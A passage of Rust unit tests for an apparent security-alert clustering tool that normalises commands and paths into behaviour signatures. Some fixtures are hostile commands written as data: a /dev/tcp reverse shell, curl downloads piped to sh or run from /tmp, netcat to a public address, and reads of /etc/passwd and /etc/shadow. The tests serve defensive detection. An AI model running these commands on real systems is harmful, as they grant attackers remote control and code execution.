            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.pname":"bash","fs.path.name":"/var/log/app.1.log"}}"#,
            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.pname":"bash","fs.path.name":"/var/log/app.2.log"}}"#,
            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.pname":"httpd","fs.path.name":"/var/log/app.2.log"}}"#,
            r#"{"rule":"S","output_fields":{"proc.exepath":"/usr/bin/rm","proc.pname":"bash","fs.path.name":"/var/log/app.2.log"}}"#,
        ]
        .join("\n");
        let recs = parse_records(&text, "t").unwrap();
        let alerts: Vec<Alert> = recs
            .iter()
            .enumerate()
            .map(|(i, r)| Alert {
                rule: r.rule.clone().unwrap(),
                index: i,
            })
            .collect();
        let cl = cluster(&alerts, &recs);
        assert_eq!(cl.len(), 3);
        assert_eq!(cl[0].members, vec![0, 1]);
        assert_eq!(cl[0].signature.target, "/var/log/app.log");
        assert_ne!(cl[0].id, cl[1].id);
        assert_ne!(cl[0].id, cl[2].id);
        // Stable across runs: the id depends only on the signature.
        assert_eq!(cl[0].id, Signature::of("R", &recs[1].event).id());
        assert_eq!(cl[0].id.len(), 12);
    }

    fn sig(json: &str) -> Signature {
        let recs = parse_records(json, "t").unwrap();
        Signature::of("R", &recs[0].event)
    }

    /// A file only read from a directory of configuration fragments is one fragment of it
    /// (session 16): a reader going through `/etc/sudoers.d/` or `/etc/pam.d/` is one
    /// behaviour whichever fragment; a write, a hidden fragment, a file in an ordinary
    /// directory keep their names.
    #[test]
    fn a_read_of_a_configuration_fragment_is_one_target_class() {
        let open = |path: &str, read: bool| {
            let flags = if read {
                "O_RDONLY"
            } else {
                "O_WRONLY|O_CREAT|O_TRUNC"
            };
            sig(&format!(
                r#"{{"evt.type":"openat","evt.rawres":3,"proc.exepath":"/usr/sbin/bareos-fd","proc.pname":"systemd","fd.name":"{path}","evt.is_open_read":{read},"evt.is_open_write":{w},"evt.arg.flags":"{flags}"}}"#,
                w = !read
            ))
            .target
        };
        assert_eq!(open("/etc/sudoers.d/10-admins", true), "/etc/sudoers.d/*");
        assert_eq!(
            open("/etc/sudoers.d/10-admins", true),
            open("/etc/sudoers.d/90-cloud-init-users", true)
        );
        assert_eq!(
            open("/etc/pam.d/common-auth", true),
            open("/etc/pam.d/common-session", true)
        );
        assert_ne!(
            open("/etc/pam.d/common-auth", true),
            open("/etc/sudoers.d/10-admins", true)
        );
        assert_eq!(open("/etc/cron.d/backup", false), "/etc/cron.d/backup");
        assert_eq!(open("/etc/cron.d/.hidden", true), "/etc/cron.d/.hidden");
        assert_eq!(open("/etc/shadow", true), "/etc/shadow");
        assert_ne!(open("/etc/sudoers", true), open("/etc/shadow", true));
    }

    /// Names given as arguments are incidental; the command, its options and its
    /// subcommand are not.
    #[test]
    fn command_values_are_normalised_by_kind() {
        let m = mask_command;
        assert_eq!(
            m("useradd -m -s /bin/bash -u 1003 -c Carol Ops carol"),
            m("useradd -m -s /bin/bash -u 1004 -c Dave Ops dave")
        );
        assert_eq!(m("usermod -a -G docker carol"), "usermod -a -G W W");
        assert_eq!(m("apt-get install -y procps"), "apt-get install -y W");
        assert_eq!(m("apt-get install -y htop"), m("apt-get install -y procps"));
        // The subcommand stays: installing is not removing.
        assert_ne!(
            m("apt-get remove -y procps"),
            m("apt-get install -y procps")
        );
        assert_ne!(m("userdel carol"), m("useradd carol"));
        // An interpreter's script, then its subcommand.
        assert_eq!(
            m("python3 /usr/bin/pip install polars==1.2.0"),
            "pythonN /usr/bin/pip install W"
        );
        // Options stay.
        assert_ne!(m("grep -rlI x src/"), m("grep -i x src/"));
        // Addresses by class and port; URLs by scheme, host class and masked path.
        assert_eq!(m("nc 203.0.113.9 4444"), "nc public W");
        assert_eq!(
            m("rsync -a /data/ backup@10.0.0.5:/srv/backup/"),
            "rsync -a /data/ W@private:/srv/backup/"
        );
        assert_ne!(
            m("rsync -a /data/ backup@10.0.0.5:/srv/"),
            m("rsync -a /data/ x@203.0.113.5:/srv/")
        );
        assert_eq!(
            m("curl -o /tmp/p http://203.0.113.1/p"),
            "curl -o /tmp/p http://public/p"
        );
        assert_ne!(
            m("curl http://127.0.0.1:8080/health"),
            m("curl http://203.0.113.1:8080/health")
        );
        // A shell's script, command by command; quoted strings are data.
        assert_eq!(
            m("sh -c printf 'To: alice@example.test\\n' | /opt/bin/sendmail -t -i"),
            m("sh -c printf 'To: bob@example.test\\nOrder 7\\n' | /opt/bin/sendmail -t -i")
        );
        assert_eq!(
            m("sh -c 'cat /etc/passwd; id'"),
            "sh -c cat /etc/passwd ; id"
        );
        assert_ne!(
            m("sh -c sendmail -t; cat /etc/passwd"),
            m("sh -c sendmail -t")
        );
        // Redirections keep their target class.
        assert_eq!(
            m("bash -i >/dev/tcp/203.0.113.9/4444 0>&1"),
            "bash -i >/dev/tcp/N.N.N.N/N N>&N"
        );
        // Scripts within scripts, however deep: no stack exhaustion.
        let deep = "sh -c ".repeat(200_000) + "id";
        assert!(m(&deep).ends_with("-c sh -c sh -c id"));
        // Hostile input: no panic, control characters kept as data.
        for s in [
            "",
            "'",
            "\"unterminated",
            "a | | ;; && &",
            "x -=",
            "\u{1b}[31m",
            "@",
            "://",
            "a@:",
        ] {
            let _ = m(s);
        }
    }

    #[test]
    fn paths_drop_incidental_numbers_and_user_names() {
        // Rotation numbers, whatever the compression.
        assert_eq!(mask_path("/var/log/dpkg.log.1"), "/var/log/dpkg.log.N");
        assert_eq!(mask_path("/var/log/dpkg.log.2.gz"), "/var/log/dpkg.log.N");
        assert_ne!(
            mask_path("/var/log/dpkg.log.1"),
            mask_path("/var/log/dpkg.log")
        );
        // Dates and sequence numbers in a name.
        assert_eq!(
            mask_path("/var/log/lynis-20261205.log"),
            "/var/log/lynis.log"
        );
        assert_eq!(mask_path("/var/log/app-2026-12-05.log"), "/var/log/app.log");
        assert_eq!(
            mask_path("/srv/uploads/img_1700_3.jpg"),
            mask_path("/srv/uploads/img_1812_14.jpg")
        );
        // Segment names: all digits or hex.
        assert_eq!(
            mask_path("/mnt/archive/000000010000000000000002"),
            mask_path("/mnt/archive/0000000100000000000000A1")
        );
        // Home directories: the user's name is incidental, root's is not a user's.
        assert_eq!(
            mask_path("/home/alice/.bash_history"),
            mask_path("/home/bob/.bash_history")
        );
        assert_ne!(
            mask_path("/root/.bash_history"),
            mask_path("/home/bob/.bash_history")
        );
        // Different files stay different: a package log is not the auth log.
        assert_ne!(
            mask_path("/var/log/dpkg.log"),
            mask_path("/var/log/auth.log")
        );
        assert_ne!(mask_path("/var/log/syslog"), mask_path("/var/log/syslog.1"));
        // Temp directories and pod suffixes.
        assert_eq!(
            mask_path("/tmp/go-build2291/b001/exe/main"),
            "/tmp/T/bN/exe/main"
        );
        assert_eq!(mask("web-7d9f8c6b5-x2x9k"), mask("web-5c4d7f9b8-qq2rt"));
        assert_eq!(mask("python3.11"), "pythonN.N");
        assert_eq!(mask_path("/"), "/");
        assert_eq!(mask_path("/home/"), "/home/");
        assert_eq!(mask_path("a.N.gz"), "a.N");
    }

    /// What a command runs and reaches: options and plain values are left out, programs,
    /// addresses by class, temporary paths, substitutions and `/dev/tcp` stay.
    #[test]
    fn command_reach_keeps_programs_and_places_only() {
        let r = command_reach;
        // Other options, other files of the tool's own: the same.
        assert_eq!(
            r("lynis audit system --cronjob"),
            r("lynis audit system --cronjob --profile /etc/lynis/monthly.prf")
        );
        assert_eq!(r("pip install -U polars"), r("pip install numpy"));
        assert_eq!(
            r("sh -c 'grep -q x a && grep -q y b'"),
            r("sh -c 'grep -q x a'")
        );
        // A download, a chained command, a temporary path, a substitution: not the same.
        assert_eq!(
            r("sh -c curl -s -o /tmp/.u http://203.0.113.7/p && chmod +x /tmp/.u && /tmp/.u; rm x"),
            "sh -c curl drop http://public chmod drop:.u rm"
        );
        assert_ne!(
            r("sh -c rm x"),
            r("sh -c rm x; curl -s http://203.0.113.7/x | sh")
        );
        assert_ne!(
            r("tar czf /var/backups/e.tgz /etc"),
            r("tar czf /dev/shm/.x /etc")
        );
        assert_ne!(r("convert a b"), r("convert a \"$(id)\""));
        assert_eq!(
            r("bash -i >/dev/tcp/203.0.113.9/4444 0>&1"),
            "bash net-redirect"
        );
        assert_ne!(
            r("rsync -a /d/ b@10.0.0.5:/srv/"),
            r("rsync -a /d/ b@203.0.113.5:/srv/")
        );
        assert_eq!(
            r("curl --url=http://127.0.0.1:8080/x"),
            "curl http://loopback"
        );
        // Scripts within scripts, however deep; hostile input never panics.
        let deep = "sh -c ".repeat(100_000) + "id";
        assert!(r(&deep).ends_with("deep"));
        for s in ["", "'", "$(", "a@", "://", "| ; &&", "\u{1b}[31m"] {
            let _ = r(s);
        }
    }

    /// The action, the entry and lineage facts, the workload's repository and the server
    /// are part of the behaviour.
    #[test]
    fn root_as_an_argument_is_kept() {
        assert_eq!(
            mask_command("usermod -a -G wheel alice"),
            mask_command("usermod -a -G docker bob")
        );
        assert_ne!(
            mask_command("usermod -a -G wheel alice"),
            mask_command("usermod -a -G wheel root")
        );
    }

    /// Session 15: another runtime's exec entry (parent or further up), the same system
    /// program in another system directory, and the distribution's other POSIX shell
    /// running the same `sh -c` program are one behaviour; a program outside the system
    /// directories, another shell family and a parent that is no runtime entry are not.
    #[test]
    fn runtimes_system_directories_and_posix_shells_are_one_kind() {
        let exec = |above: &str| {
            sig(&format!(
                r#"{{"evt.type":"execve","proc.name":"tcpdump","proc.exepath":"/usr/sbin/tcpdump","proc.cmdline":"tcpdump -ni eth0","proc.pname":"bash","proc.pcmdline":"bash","proc.aname[2]":"{above}","proc.tty":34816,"container.id":"c1","container.image.repository":"r/x","k8s.ns.name":"n"}}"#
            ))
        };
        assert_eq!(exec("containerd-shim").id(), exec("conmon").id());
        assert_eq!(exec("runc").id(), exec("crun").id());
        assert_ne!(exec("containerd-shim").id(), exec("sshd").id());
        let shell = |parent: &str| {
            sig(&format!(
                r#"{{"evt.type":"execve","proc.name":"bash","proc.exepath":"/bin/bash","proc.cmdline":"bash","proc.pname":"{parent}","proc.pcmdline":"{parent} -b /run/x -c 41c2","proc.tty":34816,"container.id":"c1"}}"#
            ))
        };
        assert_eq!(shell("containerd-shim").id(), shell("conmon").id());
        assert_ne!(shell("containerd-shim").id(), shell("sshd").id());
        let prog = |exe: &str| {
            sig(&format!(
                r#"{{"evt.type":"execve","proc.name":"x","proc.exepath":"{exe}","proc.cmdline":"x -n","proc.pname":"cron"}}"#
            ))
        };
        assert_eq!(
            prog("/usr/sbin/tcpdump").id(),
            prog("/usr/bin/tcpdump").id()
        );
        assert_eq!(prog("/sbin/mkfs").id(), prog("/usr/sbin/mkfs").id());
        assert_ne!(prog("/usr/bin/tcpdump").id(), prog("/opt/td/tcpdump").id());
        assert_ne!(
            prog("/usr/bin/tcpdump").id(),
            prog("/usr/local/bin/tcpdump").id()
        );
        let sh_c = |exe: &str| {
            sig(&format!(
                r#"{{"evt.type":"execve","proc.name":"sh","proc.exepath":"{exe}","proc.cmdline":"sh -c /etc/hooks/render.sh payments","proc.pname":"consul"}}"#
            ))
        };
        assert_eq!(sh_c("/usr/bin/dash").id(), sh_c("/usr/bin/bash").id());
        assert_eq!(sh_c("/bin/sh").id(), sh_c("/usr/bin/dash").id());
        assert_ne!(sh_c("/usr/bin/dash").id(), sh_c("/usr/bin/zsh").id());
    }

    /// One program under each distribution's name is one parent and one ancestor, and a
    /// distribution's web server account is one account (session 16): Debian's `apache2`
    /// running as `www-data` and RHEL's `httpd` as `apache`, `cron` and cronie's `crond`,
    /// `sshd` and OpenSSH's `sshd-session`. Another server, another account, stay apart.
    #[test]
    fn one_program_under_each_distributions_name_is_one_kind() {
        let shell_out = |server: &str, user: &str| {
            sig(&format!(
                r#"{{"evt.type":"execve","proc.name":"sh","proc.exepath":"/bin/sh","proc.cmdline":"sh -c /usr/bin/convert in.png out.png","proc.pname":"{server}","proc.pcmdline":"{server} -DFOREGROUND","proc.aname[2]":"{server}","user.name":"{user}","user.uid":48}}"#
            ))
        };
        assert_eq!(
            shell_out("httpd", "apache").id(),
            shell_out("apache2", "www-data").id()
        );
        assert_eq!(
            shell_out("httpd", "apache").id(),
            shell_out("httpd", "wwwrun").id()
        );
        assert_ne!(
            shell_out("httpd", "apache").id(),
            shell_out("nginx", "apache").id()
        );
        assert_ne!(
            shell_out("httpd", "apache").id(),
            shell_out("httpd", "postgres").id()
        );
        let job = |daemon: &str| {
            sig(&format!(
                r#"{{"evt.type":"unlinkat","proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.cmdline":"rm -f /var/log/app/old.log","proc.pname":"sh","proc.aname[2]":"{daemon}","fs.path.name":"/var/log/app/old.log"}}"#
            ))
        };
        assert_eq!(job("cron").id(), job("crond").id());
        assert_ne!(job("cron").id(), job("atd").id());
        assert_eq!(
            crate::kinds::name_class("sshd-session"),
            crate::kinds::name_class("sshd")
        );
        assert_eq!(crate::kinds::name_class("nginx"), "nginx");
    }

    #[test]
    fn generated_test_binaries_are_one_actor() {
        let s = |exe: &str, cmd: &str| {
            sig(&format!(
                r#"{{"rule":"Execution from /dev/shm","output_fields":{{"proc.exepath":"{exe}","proc.name":"{}","proc.cmdline":"{cmd}","proc.pname":"go","user.uid":1001}}}}"#,
                exe.rsplit('/').next().unwrap()
            ))
        };
        let queue = s(
            "/dev/shm/go-build1772003311/b052/queue.test",
            "queue.test -test.paniconexit0 -test.timeout=10m0s",
        );
        let worker = s(
            "/dev/shm/go-build3001299410/b061/worker.test",
            "worker.test -test.paniconexit0 -test.timeout=10m0s",
        );
        assert_eq!(queue, worker);
        assert!(queue.exe.ends_with("/*.test"), "{}", queue.exe);
        // Another extension, or a fixed directory, is another actor.
        let so = s(
            "/dev/shm/go-build3001299410/b061/worker.so",
            "worker.so -test.paniconexit0 -test.timeout=10m0s",
        );
        assert_ne!(queue, so);
        let dropped = s(
            "/dev/shm/queue.test",
            "queue.test -test.paniconexit0 -test.timeout=10m0s",
        );
        assert_ne!(queue, dropped);
        // Other options are another behaviour.
        let other = s(
            "/dev/shm/go-build3001299410/b061/worker.test",
            "worker.test -test.run=X",
        );
        assert_ne!(queue, other);
    }

    #[test]
    fn signature_keeps_action_entry_workload_and_server() {
        let base = r#""proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","proc.pname":"bash","user.uid":0"#;
        let s = |extra: &str| {
            sig(&format!(
                r#"{{"rule":"R","output_fields":{{{base}{extra}}}}}"#
            ))
        };
        // Reading is not writing; `openat2` is `open`, `unlinkat` is `unlink`.
        assert_eq!(
            action(&ev(r#"{"evt.type":"openat2","evt.arg.flags":"O_RDONLY"}"#)).unwrap(),
            "open-read"
        );
        assert_eq!(
            action(&ev(
                r#"{"evt.type":"openat","evt.arg.flags":"O_WRONLY|O_CREAT"}"#
            ))
            .unwrap(),
            "open-write"
        );
        assert_eq!(
            action(&ev(
                r#"{"evt.type":"open","evt.arg.flags":"O_WRONLY|O_TRUNC"}"#
            ))
            .unwrap(),
            "open-trunc"
        );
        assert_eq!(action(&ev(r#"{"evt.type":"unlinkat"}"#)).unwrap(), "unlink");
        assert_eq!(
            action(&ev(r#"{"evt.type":"renameat2"}"#)).unwrap(),
            "rename"
        );
        assert_ne!(
            s(
                r#","evt.type":"openat","evt.arg.flags":"O_RDONLY","fd.name":"/root/.ssh/authorized_keys""#
            ),
            s(
                r#","evt.type":"openat","evt.arg.flags":"O_WRONLY|O_APPEND","fd.name":"/root/.ssh/authorized_keys""#
            )
        );
        // How the session was entered, and what is in the lineage.
        let login = s(r#","proc.aname[2]":"sshd","proc.tty":34816"#);
        assert!(
            login.lineage.iter().any(|l| l == "entry=login"),
            "{login:?}"
        );
        let exec = s(r#","proc.aname[2]":"runc","proc.tty":34816"#);
        assert!(
            exec.lineage.iter().any(|l| l == "entry=runtime"),
            "{exec:?}"
        );
        let web = s(r#","proc.aname[2]":"nginx""#);
        assert!(
            web.lineage
                .iter()
                .any(|l| l == "entry=none service service-shell"),
            "{web:?}"
        );
        // The first ancestor above the parent that is not a shell.
        assert_ne!(
            s(r#","proc.aname[2]":"sh","proc.aname[3]":"node""#),
            s(r#","proc.aname[2]":"sh","proc.aname[3]":"python3""#)
        );
        // The parent's command: a download before is another behaviour.
        assert_ne!(
            s(r#","proc.pcmdline":"bash""#),
            s(r#","proc.pcmdline":"sh -c curl -so /tmp/.u http://203.0.113.7/p; /tmp/.u; rm x""#)
        );
        // The image's repository, not its tag; an unknown container is not the host.
        assert_eq!(
            image_repository("registry:5000/team/app:1.2@sha256:ab"),
            "registry:5000/team/app"
        );
        assert_eq!(
            image_repository("registry:5000/team/app"),
            "registry:5000/team/app"
        );
        assert_eq!(image_repository("nginx"), "nginx");
        assert_eq!(
            s(r#","container.id":"c1","container.image":"nginx:1.25""#),
            s(r#","container.id":"c2","container.image":"nginx:1.27""#)
        );
        assert_eq!(s(r#","container.id":"c1""#).workload, "container");
        assert_eq!(s(r#","container.id":"host""#).workload, "host");
        // The server: by name when known (its last two labels), else a public network.
        let conn = |extra: &str| {
            s(&format!(
                r#","evt.type":"connect","fd.name":"10.0.0.2:51234->{extra}"#
            ))
        };
        assert_eq!(conn(r#"203.0.113.7:443""#), conn(r#"203.0.113.9:443""#));
        assert_ne!(conn(r#"203.0.113.7:443""#), conn(r#"198.51.100.7:443""#));
        assert_eq!(conn(r#"10.0.0.5:5432""#), conn(r#"10.0.9.6:5432""#));
        assert_eq!(
            conn(r#"140.82.112.3:443","fd.sip.name":"ssh.github.com""#).target,
            "->public:443 github.com"
        );
        assert_ne!(
            conn(r#"140.82.112.3:443","fd.sip.name":"ssh.github.com""#),
            conn(r#"140.82.112.3:443","fd.sip.name":"c2.example.net""#)
        );
    }

    fn ev(json: &str) -> FlatEvent {
        parse_records(json, "t").unwrap().remove(0).event
    }

    /// One behaviour is one cluster across runs; the actor's kind, the namespace and the
    /// terminal are part of the behaviour.
    #[test]
    fn signature_keeps_user_kind_terminal_and_namespace() {
        let a = sig(
            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/sbin/useradd","proc.name":"useradd","proc.pname":"sh","proc.cmdline":"useradd -m carol","user.name":"root","user.uid":0}}"#,
        );
        let b = sig(
            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/sbin/useradd","proc.name":"useradd","proc.pname":"sh","proc.cmdline":"useradd -m dave","user.name":"root","user.uid":0}}"#,
        );
        assert_eq!(a, b);
        let www = sig(
            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/sbin/useradd","proc.name":"useradd","proc.pname":"sh","proc.cmdline":"useradd -m dave","user.name":"www-data","user.uid":33}}"#,
        );
        assert_ne!(a, www);
        assert!(
            www.lineage.contains(&"user=web-server-account".to_string()),
            "{www:?}"
        );
        let alice = sig(
            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","user.name":"alice","user.uid":1000}}"#,
        );
        let bob = sig(
            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","user.name":"bob","user.uid":1001}}"#,
        );
        assert_eq!(alice, bob);
        let tty = sig(
            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","user.name":"bob","user.uid":1001,"proc.tty":34816}}"#,
        );
        assert_ne!(tty, bob);
        let ns1 = sig(
            r#"{"rule":"R","output_fields":{"proc.exepath":"/bin/sh","proc.name":"sh","container.image.repository":"nginx","k8s.ns.name":"shop"}}"#,
        );
        let ns2 = sig(
            r#"{"rule":"R","output_fields":{"proc.exepath":"/bin/sh","proc.name":"sh","container.image.repository":"nginx","k8s.ns.name":"payments"}}"#,
        );
        assert_ne!(ns1, ns2);
        // A person logged in behind a root shell is not a service's root child.
        let admin = sig(
            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","user.name":"root","user.uid":0,"user.loginuid":1000}}"#,
        );
        let svc = sig(
            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","user.name":"root","user.uid":0,"user.loginuid":-1}}"#,
        );
        let bare = sig(
            r#"{"rule":"R","output_fields":{"proc.exepath":"/usr/bin/rm","proc.name":"rm","proc.cmdline":"rm x","user.name":"root","user.uid":0}}"#,
        );
        assert_ne!(admin, svc);
        assert_eq!(svc, bare);
    }
}
